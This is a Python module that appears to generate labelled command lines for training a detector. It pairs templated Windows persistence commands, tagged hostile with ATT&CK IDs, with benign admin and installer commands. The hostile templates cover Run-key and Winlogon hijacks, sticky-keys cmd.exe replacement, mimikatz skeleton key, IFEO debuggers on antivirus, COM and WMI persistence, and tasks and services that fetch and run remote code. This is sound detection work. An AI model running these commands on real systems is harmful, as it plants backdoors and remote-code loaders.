"""What makes strangers' programs come back, as commands, and how software and admins set up the same."""

from __future__ import annotations

from generator.families.windows.execution_table import harmless, hostile

hostile("run-keys-of-strangers", "Persistence", "T1547.001", r"""
reg add «HKCU|HKLM|"HKEY_CURRENT_USER"»\Software\Microsoft\Windows\CurrentVersion\«Run|RunOnce|RunOnceEx\0001|RunServices» /v «~n~|OneDriveUpdate|SecurityHealth|WindowsDefender|svchost|Java Updater» /t REG_SZ /d "~f~.exe" /f
reg.exe add "HKCU\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /f /v "~n~" /d "«wscript.exe //b|mshta|rundll32.exe|regsvr32 /s|powershell -w hidden -f» ~f~.«vbs|hta|dll|ps1»"
reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\Explorer\Run /v ~n~ /t REG_SZ /d ~f~.exe
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders" /v Startup /t REG_EXPAND_SZ /d "~d~" /f
reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\Shell Folders" /v "Common Startup" /d "~d~" /f
powershell New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name ~n~ -Value '~f~.exe' -Force
powershell -w hidden Set-ItemProperty 'HKLM:\Software\Microsoft\Windows\CurrentVersion\Run' ~n~ 'powershell -enc ⟦iex(irm @url@)⟧'
copy ~f~.exe "C:\Users\@user@\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\~n~.exe"
cmd /c copy /y ~f~.«bat|vbs|lnk|js» "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\"
powershell "$s=(New-Object -ComObject WScript.Shell).CreateShortcut([Environment]::GetFolderPath('Startup')+'\~n~.lnk');$s.TargetPath='~f~.exe';$s.Save()"
reg add "HKCU\Software\Microsoft\Windows NT\CurrentVersion\Windows" /v «load|run» /d "~f~.exe" /f
reg add "HKLM\Software\Microsoft\Command Processor" /v AutoRun /d "~f~.exe" /f
reg add "HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{@guid@}" /v StubPath /d "~f~.exe" /f
reg import ~f~.reg & echo HKCU\Software\Microsoft\Windows\CurrentVersion\Run ~f~.exe
""", weight=1.2)
hostile("logon-shell-replaced", "Persistence", "T1547.004", r"""
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Shell /t REG_SZ /d "explorer.exe,~f~.exe" /f
reg add "HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /d "C:\Windows\system32\userinit.exe,~f~.exe," /f
reg.exe add "HKCU\Software\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Shell /d "«explorer.exe, |»~f~.exe" /f
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Notify\~n~" /v logon /d "~f~.dll" /f
powershell Set-ItemProperty 'HKCU:\Software\Microsoft\Windows NT\CurrentVersion\Winlogon\' Shell 'explorer.exe, ~f~.exe' -Force
powershell Set-ItemProperty 'HKLM:\Software\Microsoft\Windows NT\CurrentVersion\Winlogon\' Userinit 'Userinit.exe, ~f~.exe' -Force
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v «VmApplet|Taskman|AppSetup|mpnotify» /d "~f~.exe" /f
reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System" /v Shell /d "~f~.exe" /f
""")
hostile("libraries-registered-to-come-back", "Persistence", "T1547.001", r"""
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Print\Monitors\~n~" /v Driver /t REG_SZ /d "~n~.dll" /f
reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v "«Security Packages|Authentication Packages»" /t REG_MULTI_SZ /d "scecli\0~n~" /f
reg add "HKLM\SYSTEM\CurrentControlSet\Services\W32Time\TimeProviders\~n~" /v DllName /d "~f~.dll" /f
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Print\Environments\Windows x64\Print Processors\~n~" /v Driver /d "~n~.dll" /f
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Session Manager" /v BootExecute /t REG_MULTI_SZ /d "autocheck autochk *\0~n~" /f
reg add "HKLM\SOFTWARE\Microsoft\Cryptography\OID\EncodingType 0\CryptSIPDllVerifyIndirectData\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}" /v Dll /d "~f~.dll" /f
""")
hostile("logon-providers-registered", "Persistence", "T1556 T1547.001", r"""
reg add "HKLM\SYSTEM\CurrentControlSet\Control\NetworkProvider\Order" /v PROVIDERORDER /d "RDPNP,LanmanWorkstation,webclient,~n~" /f
reg add "HKLM\SYSTEM\CurrentControlSet\Services\~n~\NetworkProvider" /v ProviderPath /t REG_EXPAND_SZ /d "~f~.dll" /f
powershell "New-Item HKLM:\SYSTEM\CurrentControlSet\Services\~n~\NetworkProvider -Force; Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Services\~n~\NetworkProvider ProviderPath '~f~.dll'"
reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v "Notification Packages" /t REG_MULTI_SZ /d "scecli\0~n~" /f
copy /y ~f~.dll C:\Windows\System32\~n~.dll & reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v "Notification Packages" /t REG_MULTI_SZ /d "rassfm\0scecli\0~n~" /f
powershell Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Control\Lsa 'Notification Packages' @('scecli','~n~')
reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Authentication\Credential Providers\{@guid@}" /ve /d ~n~ /f & reg add "HKCR\CLSID\{@guid@}\InprocServer32" /ve /d "~f~.dll" /f
~d~mimikatz.exe "privilege::debug" "misc::«skeleton|memssp»" exit
""", weight=0.6)
hostile("libraries-loaded-by-every-program", "Persistence", "T1546", r"""
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows" /v AppInit_DLLs /d "~f~.dll" /f
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\AppCertDlls" /v ~n~ /t REG_EXPAND_SZ /d "~f~.dll" /f
netsh.exe add helper ~f~.dll
netsh add helper \\@ip@\c$\~n~.dll
reg add HKLM\SOFTWARE\Microsoft\NetSh /v ~n~ /t REG_SZ /d ~f~.dll /f
reg add "HKLM\SOFTWARE\Microsoft\AMSI\Providers\{@guid@}" /ve /d "~n~" /f
reg add "HKLM\SOFTWARE\Wow6432Node\Microsoft\Windows NT\CurrentVersion\Windows" /v LoadAppInit_DLLs /t REG_DWORD /d 1 /f & reg add "HKLM\SOFTWARE\Wow6432Node\Microsoft\Windows NT\CurrentVersion\Windows" /v AppInit_DLLs /d ~f~.dll /f
powershell Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows' AppInit_DLLs '~f~.dll'
setx COR_ENABLE_PROFILING 1 /M & setx COR_PROFILER {@guid@} /M & setx COR_PROFILER_PATH ~f~.dll /M
reg add HKCU\Environment /v COR_PROFILER_PATH /d ~f~.dll /f
reg add "HKLM\SYSTEM\CurrentControlSet\Services\WinSock2\Parameters" /v AutodialDLL /d ~f~.dll /f
""")
hostile("file-types-and-screensavers-turned", "Persistence", "T1546", r"""
assoc .txt=~n~file & ftype ~n~file="~f~.exe" "%1"
ftype txtfile="~f~.exe" %1
reg add HKCU\Software\Classes\«txtfile|exefile|.txt|batfile»\shell\open\command /ve /d "~f~.exe %1" /f
reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /t REG_SZ /d "~f~.scr" /f
reg add "HKCU\Control Panel\Desktop" /v ScreenSaveActive /d 1 /f & reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /d ~f~.scr /f
reg add "HKLM\SOFTWARE\Classes\exefile\shell\runas\command" /ve /d "~f~.exe" /f
reg add HKCU\Environment /v UserInitMprLogonScript /t REG_MULTI_SZ /d "~f~.bat" /f
powershell Add-Content $PROFILE "Start-Process ~f~.exe"
powershell "echo 'iex(irm @url@)' >> C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1"
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v InitialProgram /d "~f~.exe" /f
reg add "HKLM\SOFTWARE\Microsoft\Windows\Windows Error Reporting\Hangs" /v Debugger /d "~f~.exe" /f
reg add "HKCU\Software\Microsoft\Office test\Special\Perf" /ve /d "~f~.dll" /f
copy ~f~.«dotm|wll|xlam» "%APPDATA%\Microsoft\«Word\STARTUP|Excel\XLSTART|AddIns»\"
""")
hostile("help-keys-at-the-login-screen", "Persistence", "T1546 T1546.012", r"""
copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\«sethc|utilman|osk|magnify|narrator|displayswitch|atbroker».exe
takeown /f C:\Windows\System32\«sethc|utilman|osk».exe & icacls C:\Windows\System32\«sethc|utilman|osk».exe /grant administrators:F & copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\«sethc|utilman|osk».exe
ren C:\Windows\System32\«utilman|sethc».exe «utilman|sethc».exe.bak
move C:\Windows\System32\sethc.exe C:\Windows\System32\sethc.exe.old & copy C:\Windows\System32\cmd.exe C:\Windows\System32\sethc.exe
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\«sethc|utilman|osk|Magnify|Narrator|DisplaySwitch|AtBroker».exe" /t REG_SZ /v Debugger /d "«C:\windows\system32\cmd.exe|taskmgr.exe|~f~.exe»" /f
powershell "Copy-Item C:\Windows\System32\cmd.exe C:\Windows\System32\«osk|sethc|utilman».exe -Force"
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Accessibility\ATs\~n~" /v StartExe /d "~f~.exe" /f
mklink C:\Windows\System32\«sethc|utilman».exe C:\Windows\System32\cmd.exe
""", severity="CRITICAL")
hostile("debuggers-set-on-programs", "Persistence", "T1546.012", r"""
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\«notepad|calc|chrome|winword|taskmgr|svchost|explorer|MsMpEng|SophosUI|mbam|avp|procexp|regedit».exe" /v Debugger /t REG_SZ /d "«~f~.exe|ntsd -d|svchost.exe|C:\Windows\System32\systray.exe»" /f
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\«notepad|iexplore|lsass».exe" /v MonitorProcess /d "~f~.exe" /f
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\«notepad|outlook».exe" /v ReportingMode /t REG_DWORD /d 1 /f & reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\notepad.exe" /v GlobalFlag /t REG_DWORD /d 512 /f
powershell "New-Item 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\winword.exe' -Force; Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\winword.exe' Debugger ~f~.exe"
reg add "HKLM\SOFTWARE\Wow6432Node\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\«chrome|acrord32».exe" /v VerifierDlls /d "~n~.dll" /f
gflags.exe /p /enable «notepad|winword».exe /full & reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\winword.exe" /v Debugger /d ~f~.exe
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\«WINWORD|OUTLOOK».EXE" /v Debugger /d "rundll32 ~f~.dll,Start" /f
""")
hostile("objects-redirected", "Persistence", "T1546.015", r"""
reg add "HKCU\Software\Classes\CLSID\{@guid@}\InprocServer32" /ve /t REG_SZ /d "~f~.dll" /f
reg add "HKCU\Software\Classes\CLSID\{«B5F8350B-0548-48B1-A6EE-88BD00B4A5E7|42aedc87-2188-41fd-b9a3-0c966feabec1|0358b920-0ac7-461f-98f4-58e32cd89148|BCDE0395-E52F-467C-8E3D-C4579291692E|fbeb8a05-beee-4442-804e-409d6c4515e9»}\InprocServer32" /d "~f~.dll" /f
reg add HKCU\Software\Classes\CLSID\{@guid@}\LocalServer32 /ve /d "~f~.exe" /f
reg add HKCU\Software\Classes\CLSID\{@guid@}\TreatAs /ve /d "{@guid@}" /f
reg add HKCU\Software\Classes\CLSID\{@guid@}\ScriptletURL /ve /d "@url@/~n~.sct" /f
powershell "New-Item 'HKCU:\Software\Classes\CLSID\{@guid@}\InprocServer32' -Value '~f~.dll' -Force; rundll32 -sta '{@guid@}'"
reg add "HKCU\Software\Classes\CLSID\{@guid@}\InprocServer32" /v ThreadingModel /d Both /f & reg add "HKCU\Software\Classes\CLSID\{@guid@}\InprocServer32" /ve /d ~f~.dll /f
reg add "HKCU\Software\Classes\CLSID\{@guid@}\Shell\Open\Command" /ve /d "mshta @url@" /f
""")
hostile("tasks-planned-by-strangers", "Persistence", "T1053.005", r"""
schtasks /create /tn "«~n~|GoogleUpdateTaskMachine|OneDrive Sync|WindowsUpdateCheck|\Microsoft\Windows\@Word@\~n~»" /tr "~f~.exe" /sc «minute /mo 5|onlogon|onstart|hourly|daily /st 09:00|onidle /i 10» /f
schtasks.exe /Create /F /RU SYSTEM /RL HIGHEST /SC ONSTART /TN ~n~ /TR "~f~.«bat|vbs|dll»"
schtasks /create /sc minute /mo @n@ /tn ~n~ /tr "«mshta @url@|powershell -w hidden -enc ⟦iex(irm @url@)⟧|rundll32 ~f~.dll,Start|wscript //b ~f~.vbs|regsvr32 /s ~f~.dll»"
SCHTASKS /Create /XML "«C:\Users\Public\|C:\Windows\Fonts\|C:\PerfLogs\|C:\Users\@user@\Music\»~n~.xml" /TN "~n~" /F
schtasks /change /tn "\Microsoft\Windows\«Defrag\ScheduledDefrag|UpdateOrchestrator\Reboot|CertificateServicesClient\UserTask»" /tr "~f~.exe" /ru SYSTEM
schtasks /create /s @host@ /u @domain@\@user@ /p @pw@ /tn ~n~ /tr "cmd /c ~f~.exe" /sc once /st 23:55 /ru SYSTEM
powershell "Register-ScheduledTask -TaskName '~n~' -Action (New-ScheduledTaskAction -Execute '~f~.exe') -Trigger (New-ScheduledTaskTrigger -AtLogOn) -RunLevel Highest -Force"
powershell -w hidden "$a=New-ScheduledTaskAction -Execute powershell -Argument '-w hidden -c iex(irm @url@)';$t=New-ScheduledTaskTrigger -Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Minutes 5);Register-ScheduledTask ~n~ -Action $a -Trigger $t"
schtasks /run /tn ~n~ & schtasks /delete /tn ~n~ /f & ~f~.exe
schtasks /create /tn ~n~ /tr "cmd /c start /min ~f~.bat ^& exit" /sc ONEVENT /EC Security /MO "*[System[(EventID=4624)]]"
~d~SharPersist.exe -t schtask -c "~f~.exe" -n "~n~" -m add
at.exe 13:20 /interactive ~f~.exe
wmic process call create "schtasks /create /tn ~n~ /tr ~f~.exe /sc onlogon"
""", weight=1.3)
hostile("services-made-by-strangers", "Persistence", "T1543.003", r"""
sc create ~n~ binPath= "~f~.exe" start= auto
sc.exe create «~n~|WindowsUpdateSvc|@Word@Svc» binpath= "cmd.exe /c «start ~f~.exe|powershell -nop -w hidden -enc ⟦iex(irm @url@)⟧|echo ~n~ > \\.\pipe\~n~»" start= demand
sc \\@host@ create ~n~ binPath= "C:\Windows\Temp\~n~.exe"
sc config «Fax|RemoteRegistry|SensrSvc|upnphost|AppMgmt|wercplsupport» binPath= "~f~.exe" start= auto
sc failure ~n~ command= "~f~.exe" reset= 0 actions= run/0
powershell New-Service -Name ~n~ -BinaryPathName '~f~.exe' -StartupType Automatic
~d~nssm.exe install ~n~ ~f~.exe
~d~srvany.exe & reg add HKLM\SYSTEM\CurrentControlSet\Services\~n~\Parameters /v Application /d ~f~.exe
reg add HKLM\SYSTEM\CurrentControlSet\Services\~n~\Parameters /v ServiceDll /t REG_EXPAND_SZ /d "~f~.dll" /f
reg add "HKLM\SYSTEM\CurrentControlSet\Services\~n~" /v ImagePath /t REG_EXPAND_SZ /d "~f~.exe" /f
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Svchost" /v ~n~ /t REG_MULTI_SZ /d ~n~ /f & sc create ~n~ binPath= "C:\Windows\System32\svchost.exe -k ~n~" type= share
sc sdset ~n~ D:(D;;DCLCWPDTSD;;;IU)(D;;DCLCWPDTSD;;;SU)(A;;CCLCSWLOCRRC;;;IU)
sc sdset scmanager D:(A;;KA;;;WD)
wmic service call create "~n~","~n~","~f~.exe"
""", weight=1.2)
hostile("event-subscriptions-of-strangers", "Persistence", "T1546.003", r"""
wmic /NAMESPACE:"\\root\subscription" PATH __EventFilter CREATE Name="~n~", EventNameSpace="root\cimv2", QueryLanguage="WQL", Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
wmic /NAMESPACE:"\\root\subscription" PATH CommandLineEventConsumer CREATE Name="~n~", ExecutablePath="~f~.exe", CommandLineTemplate="~f~.exe"
wmic /NAMESPACE:"\\root\subscription" PATH __FilterToConsumerBinding CREATE Filter="__EventFilter.Name=\"~n~\"", Consumer="CommandLineEventConsumer.Name=\"~n~\""
powershell "Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{Name='~n~';CommandLineTemplate='~f~.exe'}"
powershell -nop "New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property @{Name='~n~';EventNameSpace='root\CimV2';QueryLanguage='WQL';Query='SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA Win32_LogonSession'}"
powershell "Register-WmiEvent -Query 'SELECT * FROM Win32_ProcessStartTrace' -Action { ~f~.exe }"
mofcomp.exe ~f~.mof
mofcomp -N:root\subscription \\@ip@\c$\~n~.mof
powershell "$c=([wmiclass]'\\.\root\subscription:ActiveScriptEventConsumer').CreateInstance();$c.ScriptingEngine='VBScript';$c.ScriptFileName='~f~.vbs';$c.Put()"
C:\Windows\System32\wbem\scrcons.exe -Embedding & ~f~.exe
""")

harmless("run-keys-of-programs", "Application Event", r"""
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v "«~v~|OneDrive|com.squirrel.slack.slack|Teams|Spotify|Zoom»" /t REG_SZ /d "C:\Program Files\~v~\tray.exe /min" /f
reg.exe ADD "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /v "~v~ Tray" /d "\"C:\Program Files (x86)\~v~\Tray.exe\" -autostart" /f
reg delete "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v "«Skype|~v~|Spotify»" /f
reg query HKLM\Software\Microsoft\Windows\CurrentVersion\Run
reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce /v "~v~ Setup" /d "~t~setup.exe /resume" /f
reg add HKLM\Software\Microsoft\Windows\CurrentVersion\RunOnce /v "!CleanupInstall" /d "cmd.exe /c rd /s /q C:\Windows\Temp\~v~" /f
powershell Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name "MapDrives" -Value "\\@dc@\netlogon\map.cmd"
copy "\\~s~\public\Phonebook.lnk" "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\"
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders" /v Personal /t REG_EXPAND_SZ /d "\\@host@\home$\%USERNAME%" /f
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v «DefaultDomainName|CachedLogonsCount|LegalNoticeText» /d "«@domain@|10|Authorised users only»" /f
reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Shell
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Shell /d "C:\Kiosk\~v~\kiosk.exe" /f
reg add "HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\~v~" /v StubPath /d "\"C:\Program Files\~v~\firstrun.exe\" /user" /f
reg import "\\~s~\settings\~v~.reg"
""", weight=1.2)
harmless("registered-parts-of-vendors", "System Activity", r"""
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Print\Monitors\«PDF24 Port|HP Discovery Port Monitor|CUSTPDF Monitor|Canon BJNP Port»" /v Driver /d "«pdf24pm|hpdiscopm|cutepdfmon|CNMNPPM».dll" /f
reg query "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v "Security Packages"
reg add HKLM\SYSTEM\CurrentControlSet\Services\W32Time\Parameters /v NtpServer /d "«ptbtime1.ptb.de|time.windows.com|@dc@.@fqdn@»,0x9" /f
reg add "HKLM\SYSTEM\CurrentControlSet\Services\W32Time\TimeProviders\VMICTimeProvider" /v Enabled /t REG_DWORD /d 0 /f
netsh show helper
netsh trace start capture=yes tracefile=C:\Temp\net.etl
assoc .«pdf|dwg|csv»
ftype
assoc .log=txtfile
ftype Acrobat.Document="C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe" "%1"
reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /d "C:\Windows\System32\«scrnsave|Bubbles|ssText3d|PhotoScreensaver».scr" /f
reg add "HKCU\Control Panel\Desktop" /v ScreenSaveTimeOut /d 600 /f
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\«outlook|iexplore|sqlservr».exe" /v «DisableExceptionChainValidation|MitigationOptions|UseLargePages» /t REG_DWORD /d 0 /f
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\taskmgr.exe" /v Debugger /d "\"C:\TOOLS\PROCEXP64.EXE\"" /f
reg delete "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\«sethc|utilman».exe" /v Debugger /f
gflags.exe /i «w3wp|app».exe +ust
reg add "HKLM\SOFTWARE\Classes\CLSID\{@guid@}\InprocServer32" /ve /d "C:\Program Files\~v~\shellext.dll" /f
reg add HKCU\Software\Classes\CLSID\{86ca1aa0-34aa-4e8b-a509-50c905bae2a2}\InprocServer32 /f /ve
reg add "HKCU\Software\Classes\CLSID\{@guid@}\LocalServer32" /ve /d "\"C:\Users\@user@\AppData\Local\~v~\~v~.exe\" -ToastActivated" /f
sfc /scanfile=C:\Windows\System32\sethc.exe
copy "\\~s~\templates\«Letter|Minutes».dotm" "%APPDATA%\Microsoft\Word\STARTUP\"
""", weight=1.3)
harmless("tasks-planned-by-admins-and-software", "Scheduled Job", r"""
schtasks /create /tn "«Daily backup|Log cleanup|Restart print spooler|Weekly reboot|Export invoices|Sync time|Renew certificate»" /tr "«C:\Scripts\backup.cmd|powershell.exe -ExecutionPolicy Bypass -File C:\Scripts\cleanup.ps1|shutdown /r /t 60|C:\Tools\wacs\wacs.exe --renew|net stop spooler»" /sc «daily /st 22:00|weekly /d SUN /st 03:00|onstart|hourly» /ru SYSTEM /f
schtasks.exe /Create /TN "~v~ Update Task" /XML "~t~task.xml" /F
schtasks /Create /F /SC ONLOGON /RL HIGHEST /TN "~v~ Launcher" /TR "\"C:\Program Files\~v~\launcher.exe\" -tray"
schtasks /run /tn "\Microsoft\Windows\«UpdateOrchestrator\Schedule Scan|Windows Defender\Windows Defender Scheduled Scan|Defrag\ScheduledDefrag»"
schtasks /query /fo LIST /v
schtasks /change /tn "\Microsoft\Windows\Application Experience\Microsoft Compatibility Appraiser" /disable
schtasks /delete /tn "~v~ Setup Resume" /f
SCHTASKS /Change /TN "Daily backup" /RU @domain@\@svc@ /RP @pw@
powershell "Register-ScheduledTask -TaskName 'Rotate logs' -Action (New-ScheduledTaskAction -Execute 'C:\Scripts\rotate.cmd') -Trigger (New-ScheduledTaskTrigger -Daily -At 3am) -User SYSTEM"
schtasks /create /s @host@ /tn "Install ~v~ client" /tr "\\~s~\packages\install.cmd" /sc once /st 22:00 /ru SYSTEM
powershell -c "Get-ScheduledTask ^| ? State -eq 'Ready' ^| Export-Csv C:\Temp\tasks.csv"
schtasks /create /sc minute /mo 5 /tn "Monitoring heartbeat" /tr "C:\Program Files\~v~\agent\heartbeat.exe"
""")
harmless("services-made-by-setups", "Software Update", r"""
sc create "~v~ Service" binPath= "\"C:\Program Files\~v~\service.exe\"" start= auto DisplayName= "~v~ Service"
sc.exe create «zabbix_agent|nxlog|filebeat|node_exporter|telegraf|grafana|redis|mosquitto» binPath= "C:\Program Files\«zabbix|nxlog|filebeat|exporter»\«agentd|nxlog|filebeat|windows_exporter».exe --config C:\ProgramData\config.yml" start= delayed-auto
sc config «"~v~ Service"|wuauserv|Spooler|MSSQLSERVER» start= «auto|demand|disabled|delayed-auto»
sc failure "~v~ Service" reset= 86400 actions= restart/60000/restart/60000//
sc description "~v~ Service" "Keeps ~v~ up to date."
sc delete "~v~ Legacy Agent"
sc sdshow «Spooler|wuauserv»
"C:\Program Files\~v~\service.exe" --install --startup auto
C:\Tools\nssm\nssm.exe install "Order Import" "C:\Program Files\nodejs\node.exe" C:\apps\orders\index.js
nssm set OrderImport AppStdout C:\Logs\orders.log
powershell New-Service -Name "actions.runner.@company@" -BinaryPathName "C:\actions-runner\bin\RunnerService.exe" -StartupType Automatic
sc \\@host@ query state= all
mofcomp.exe "C:\Program Files\Microsoft SQL Server\150\Shared\sqlmgmproviderxpsp2up.mof"
mofcomp "C:\Program Files\~v~\wmi\provider.mof"
wmic service where "name='Spooler'" call startservice
wmic /namespace:\\root\subscription path __EventFilter get Name,Query
powershell Get-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer
pg_ctl.exe register -N postgresql-16 -D D:\pgdata
mysqld.exe --install MySQL80 --defaults-file="C:\ProgramData\MySQL\my.ini"
httpd.exe -k install -n "Apache2.4"
""", weight=1.2)
